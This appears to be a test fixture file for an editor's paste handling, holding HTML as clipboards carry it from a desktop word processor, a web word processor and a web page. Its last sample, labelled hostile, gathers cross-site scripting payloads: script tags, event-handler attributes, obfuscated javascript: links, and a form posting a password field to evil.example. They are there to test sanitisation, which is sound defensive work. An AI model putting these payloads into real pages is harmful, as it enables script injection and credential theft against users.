/** HTML as clipboards hold it, written here in the manner of what puts it there. */

/** A word processor for the desktop: styles named after it, lists made of paragraphs, empty paragraphs for space. */
export const WORD = `<html>
<head><meta name=Generator content="A word processor 15"><style><!-- p.MsoNormal {mso-style-parent:""; margin:0cm;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=EN-GB style='tab-interval:36.0pt'><!--StartFragment-->
<h1 style='mso-outline-level:1'><b><span lang=EN-GB style='font-family:"Arial",sans-serif'>The   quay
is lit</span></b><o:p></o:p></h1>
<p class=MsoNormal><span lang=EN-GB style='font-size:12.0pt;mso-ansi-language:EN-GB'>It runs <b style='mso-bidi-font-weight:normal'>again</b>,
and <i>nobody</i> knows why.<o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-GB><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>The mayor<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;mso-list:l0 level2 lfo1'><span style='mso-list:Ignore'>o<span>&nbsp; </span></span>her deputy</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·<span>&nbsp;</span></span>The harbour master</p>
<p class=MsoNormal style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>3.<span>&nbsp;</span></span>Third</p>
<p class=MsoNormal style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>4.<span>&nbsp;</span></span>Fourth</p>
<p class=MsoNormal>Kept<del cite="mailto:ada" datetime="2026-03-01T10:00">&nbsp;taken out</del><ins cite="mailto:ada" datetime="2026-03-01T10:00"> and added</ins><span style='mso-hide:all;display:none'>hidden</span><a style='mso-comment-reference:A_1' href="#_msocom_1">[1]</a>.</p>
<table class=MsoTableGrid border=1 style='border-collapse:collapse;mso-yfti-tbllook:1184'>
 <tr style='mso-yfti-irow:0'><td width=200 colspan=2 style='width:150pt'><p class=MsoNormal><b>Ships</b><o:p></o:p></p></td></tr>
 <tr><td><p class=MsoNormal>Six<o:p></o:p></p></td><td><p class=MsoNormal><o:p>&nbsp;</o:p></p></td></tr>
</table>
<p class=MsoNormal><img width=640 height=480 src="data:image/png;base64,iVBORw0KGgo=" v:shapes="Picture_1"></p>
<!--EndFragment--></body></html>`;

/** A word processor on the web: one wrapper that is bold and is not, a span for each stretch, links over its own host. */
export const WEB_OFFICE = `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-6f3c2a10-7fff-0d2e-9a53-1c2b3d4e5f60"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-family:Arial;font-weight:400;white-space:pre-wrap;">What it costs</span></h2><p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;color:#000000;font-weight:400;font-style:normal;white-space:pre-wrap;">Nobody </span><span style="font-weight:700;white-space:pre-wrap;">would </span><span style="font-weight:700;font-style:italic;">say</span><span style="font-weight:400;">; see </span><a href="https://www.google.com/url?q=https://harbour.example/report?utm_source%3Dletter%26page%3D2&amp;sa=D&amp;source=editors" style="text-decoration:none;"><span style="color:#1155cc;text-decoration:underline;">the report</span></a><span style="font-weight:400;">.</span></p><br /><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span>One</span></p></li><ul><li dir="ltr" aria-level="2"><p dir="ltr" role="presentation"><span>One and a half</span></p></li></ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span style="text-decoration:line-through;">Two</span></p></li></ul><ol start="5"><li><p><span>Five</span></p></li></ol><div dir="ltr"><table><colgroup><col width="200" /></colgroup><tbody><tr><th scope="col"><p><span>Year</span></p></th><th><p><span>Ships</span></p></th></tr><tr><td><p><span>2026</span></p></td><td><p><span>6</span></p></td></tr></tbody></table></div></b><br class="Apple-interchange-newline">`;

/** A page of the web, as browsers copy it: its layout, its buttons, its counters. */
export const WEB_PAGE = `<meta charset="utf-8"><article class="post"><header><h3 class="title"><a href="/x?fbclid=abc">A smaller heading</a></h3></header>
<div class="share"><button>Share this</button><svg><text>icon</text></svg></div>
<div>First line<br>second line<br><br>After a gap</div>
<p>Known as <code>tidings</code>, H<sub>2</sub>O, 10<sup>6</sup> and <mark>marked</mark>&nbsp;: one&nbsp;metre.</p>
<blockquote><p>We never said so.</p><footer>— The yard</footer></blockquote>
<pre class="hljs"><code>let a = 1;
  if (a &lt; 2) go();
</code></pre>
<hr><figure><img src="https://cdn.example/p.jpg" alt="A quay"><figcaption>The quay at night</figcaption></figure>
<p><a href="https://a.example/story?utm_medium=social&amp;id=7&amp;gclid=1#part">A story</a> <img width="1" height="1" src="https://track.example/p.gif"></p>
<p>Own: <img src="/pictures/0197-a/960.webp" alt="Our quay"></p></article>`;

/** What somebody would like us to run. */
export const HOSTILE = `<div onclick="alert(1)" style="background:url(javascript:alert(1))"><script>alert(1)</script>
<p onmouseover="alert(1)">Words <a href="javascript:alert(1)">that stay</a> <a href=" java&#10;script:alert(1)">too</a> <a href="data:text/html,<script>alert(1)</script>">three</a></p>
<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>drawn</text></a></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>
<iframe src="https://evil.example"></iframe><img src=x onerror="alert(1)"><object data="evil.swf"></object><form action="https://evil.example"><input name="password" value="typed">Asked</form>
<style>@import "https://evil.example/x.css"</style><template><p>unseen</p></template><noscript><p>none</p></noscript><p data-pm-slice='0 0 ["island",{"html":"<script>"}]'>Last</p></div>`;
